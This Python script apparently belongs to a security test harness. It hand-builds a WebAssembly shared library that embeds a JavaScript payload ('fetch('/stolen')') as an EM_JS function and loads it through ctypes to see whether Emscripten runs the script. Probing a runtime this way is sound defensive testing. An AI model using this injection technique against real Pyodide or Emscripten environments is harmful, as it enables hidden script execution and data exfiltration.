"""A library of its own, whose "EM_JS" function is JavaScript source that Emscripten evaluates when it loads it."""

import ctypes


def number(value):
    out = bytearray()
    while True:
        value, low = value >> 7, value & 0x7F
        out.append(low | (0x80 if value else 0))
        if not value:
            return bytes(out)


def text(value):
    return number(len(value)) + value


def section(kind, *parts):
    body = b"".join(parts)
    return bytes([kind]) + number(len(body)) + body


SCRIPT = b"()<::>{ fetch('/stolen'); }\0"
WASM = b"".join(
    [
        b"\0asm\1\0\0\0",
        # dylink.0: so much memory, no tables
        section(0, text(b"dylink.0"), section(1, number(len(SCRIPT)), number(0), number(0), number(0))),
        # env.memory, env.__memory_base
        section(2, number(2), text(b"env"), text(b"memory"), b"\2\0\1", text(b"env"), text(b"__memory_base"), b"\3\x7f\0"),
        # a global that is 0: where the script is, from __memory_base on
        section(6, number(1), b"\x7f\0\x41\0\x0b"),
        section(7, number(1), text(b"__em_js__attack"), b"\3", number(1)),
        section(11, number(1), b"\0\x23\0\x0b", text(SCRIPT)),
    ]
)
with open("/tmp/attack.so", "wb") as file:
    file.write(WASM)
attempt("a library with a script in it", lambda: ctypes.CDLL("/tmp/attack.so"))
summary()
